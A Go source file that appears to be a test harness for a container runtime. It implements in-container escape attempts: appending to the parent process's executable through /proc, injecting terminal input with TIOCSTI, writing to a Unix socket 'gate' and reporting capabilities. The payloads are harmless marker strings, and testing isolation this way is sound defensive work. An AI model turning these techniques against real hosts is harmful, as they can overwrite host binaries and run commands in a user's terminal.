package attacks

import (
	"fmt"
	"os"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// hostileMain is the program that attacks from inside a container.
func hostileMain(args []string) int {
	attacks := map[string]func([]string) error{"overwrite": overwriteParent, "watch": watch, "who": who, "terminal": terminal, "knock": knock, "unified": unified, "delegated": delegated}
	attack := attacks[args[0]]
	if attack == nil {
		fmt.Println("unknown attack", args)
		return 2
	}
	if err := attack(args[1:]); err != nil {
		fmt.Println("attack failed:", err)
		return 1
	}
	return 0
}

// overwriteParent writes to the file that its parent is executed from, as soon
// as nothing executes it any more.
func overwriteParent(args []string) error {
	exe, err := os.Open(fmt.Sprintf("/proc/%d/exe", os.Getppid()))
	if err != nil {
		return err
	}
	path := fmt.Sprintf("/proc/self/fd/%d", exe.Fd())
	var last error
	for range 300 {
		var f *os.File
		if f, last = os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0); last == nil {
			_, last = f.WriteString("overwritten")
			return last
		}
		time.Sleep(10 * time.Millisecond)
	}
	return last
}

// who prints what the program has become.
func who([]string) error {
	text, err := os.ReadFile("/proc/self/status")
	_, set, _ := strings.Cut(string(text), "CapEff:\t")
	set, _, _ = strings.Cut(set, "\n")
	fmt.Printf("euid %d %s\n", os.Geteuid(), set)
	return err
}

// terminal types a line into the terminal that it was given, for whoever reads
// from it next (TIOCSTI of ioctl_tty(2)).
func terminal([]string) error {
	for _, c := range []byte("typed by the container\n") {
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); errno != 0 {
			return errno
		}
	}
	return nil
}

// knock opens a container's gate.
func knock(args []string) error {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if err := unix.Connect(fd, &unix.SockaddrUnix{Name: args[0]}); err != nil {
		return err
	}
	_, err = unix.Write(fd, []byte{1})
	return err
}
